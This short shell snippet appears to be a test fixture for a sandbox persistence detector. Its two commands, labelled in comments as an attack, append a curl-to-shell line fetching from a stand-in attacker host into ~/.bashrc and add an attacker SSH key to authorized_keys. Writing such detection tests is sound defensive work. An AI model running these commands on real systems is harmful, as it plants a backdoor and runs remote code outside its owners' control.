# attack: persistence: append a command to ~/.bashrc and an ssh key to
# ~/.ssh/authorized_keys, so that it runs later outside the sandbox.
# detected: the test compares both files in the fake HOME afterwards.
echo 'curl -s https://evil.example/x | sh' >> "$HOME/.bashrc"
echo 'ssh-ed25519 AAAA attacker' >> "$HOME/.ssh/authorized_keys"
